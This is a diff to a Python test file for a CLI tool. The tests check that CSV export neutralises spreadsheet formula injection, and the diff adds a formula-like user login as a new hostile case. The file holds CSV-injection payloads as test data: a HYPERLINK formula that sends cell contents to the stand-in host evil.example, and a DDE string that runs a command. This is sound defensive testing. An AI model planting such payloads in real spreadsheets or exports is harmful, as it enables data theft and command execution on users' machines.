@@ -19,14 +19,17 @@ from rich.console import Console
 from tests.conftest import write
 
 from relance.adapters.storage.database import Store
+from relance.core.users import Role
 from relance.interfaces.cli import output
 from relance.interfaces.cli.commands import all_commands
 from relance.interfaces.cli.machine import csv_cell, neutralised
 from relance.interfaces.cli.main import run
 from relance.interfaces.cli.tables import show_table
+from relance.services import users
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 PAYER = "@SUM(1+1)*cmd|' /C calc'!A0"
+ACCOUNT = "=1+1@example.fr"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d+)?")
 
@@ -41,6 +44,7 @@ LISTINGS: dict[str, list[str]] = {
     "unmatched": ["unmatched"],
     "rates list": ["rates", "list", "--since", "2026-01-01"],
     "proceedings list": ["proceedings", "list"],
+    "user list": ["user", "list"],
 }
 
 
@@ -76,6 +80,8 @@ def hostile(store: Store, tmp_path: Path) -> str:
                 "--date", "2026-03-17", "--db", db]) == 0  # fmt: skip
     assert run(["rates", "add", "ecb_mro", "--from", "2027-01-01", "--to", "2027-06-30",
                 "--rate", "2.40", "--source", PAYER, "--db", db]) == 0  # fmt: skip
+    # A workbench login is an e-mail address, and "=" and "+" are letters of one (RFC 5322).
+    users.add_user(store, ACCOUNT, Role.VIEWER, "correct horse battery staple")
     return db
 
 
@@ -111,7 +117,9 @@ def test_no_csv_cell_is_a_formula_and_the_ledger_keeps_its_text(
     assert run([*args, "--format", "json"]) == 0
     text = capsys.readouterr().out
     json.loads(text)
-    assert any(raw in text for raw in ("+33CUST", "-F1", "-MINUS", json.dumps(PAYER)[1:-1]))
+    assert any(
+        raw in text for raw in ("+33CUST", "-F1", "-MINUS", json.dumps(PAYER)[1:-1], ACCOUNT)
+    )
 
 
 def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised() -> None:
